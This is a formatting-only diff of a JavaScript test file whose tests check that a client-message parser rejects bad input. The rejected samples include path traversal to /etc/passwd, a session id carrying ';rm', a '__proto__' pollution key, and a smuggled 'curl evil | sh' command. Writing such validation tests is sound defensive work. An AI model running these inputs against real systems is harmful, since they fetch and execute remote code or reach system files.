@@ -50,7 +50,16 @@ test('refuses oversize input', () => {
 });
 
 test('refuses bad terminal sizes', () => {
-  for (const [cols, rows] of [[1, 24], [1001, 24], [80, 0], [80, 501], [80.5, 24], ['80', 24], [-1, 24], [Number.MAX_SAFE_INTEGER, 24]]) {
+  for (const [cols, rows] of [
+    [1, 24],
+    [1001, 24],
+    [80, 0],
+    [80, 501],
+    [80.5, 24],
+    ['80', 24],
+    [-1, 24],
+    [Number.MAX_SAFE_INTEGER, 24],
+  ]) {
     const parsed = parseClientMessage(JSON.stringify({type: 'resize', cols, rows}));
     assert.equal(parsed.ok, false, `${cols}x${rows}`);
   }
@@ -62,7 +71,12 @@ test('refuses bad terminal sizes', () => {
 test('refuses attach with a wrong protocol version or a malformed session id', () => {
   assert.equal(parseClientMessage(JSON.stringify({type: 'attach', protocol: 999, cols: 80, rows: 24})).ok, false);
   for (const sessionId of ['short', '../../etc/passwd', 'a b c d e f g h', 'x'.repeat(65), 'abcdefgh;rm', '']) {
-    assert.equal(parseClientMessage(JSON.stringify({type: 'attach', protocol: PROTOCOL_VERSION, sessionId, cols: 80, rows: 24})).ok, false, sessionId);
+    assert.equal(
+      parseClientMessage(JSON.stringify({type: 'attach', protocol: PROTOCOL_VERSION, sessionId, cols: 80, rows: 24}))
+        .ok,
+      false,
+      sessionId,
+    );
   }
 });
 
@@ -76,12 +90,20 @@ test('refuses injection attempts in step and page ids', () => {
     {type: 'page', locale: 'en', pageId: '/etc/passwd'},
     {type: 'reset-progress', pageId: '__proto__'},
   ];
-  for (const message of bad) assert.equal(parseClientMessage(JSON.stringify(message)).ok, false, JSON.stringify(message));
+  for (const message of bad)
+    assert.equal(parseClientMessage(JSON.stringify(message)).ok, false, JSON.stringify(message));
 });
 
 test('strips keys a message does not define (a run cannot smuggle a command)', () => {
   const parsed = parseClientMessage(
-    JSON.stringify({type: 'run', locale: 'en', pageId: 'intro', stepId: 'a', command: 'curl evil | sh', __proto__: {x: 1}}),
+    JSON.stringify({
+      type: 'run',
+      locale: 'en',
+      pageId: 'intro',
+      stepId: 'a',
+      command: 'curl evil | sh',
+      __proto__: {x: 1},
+    }),
   );
   assert.ok(parsed.ok);
   assert.deepEqual(Object.keys(parsed.message).sort(), ['locale', 'pageId', 'stepId', 'type']);
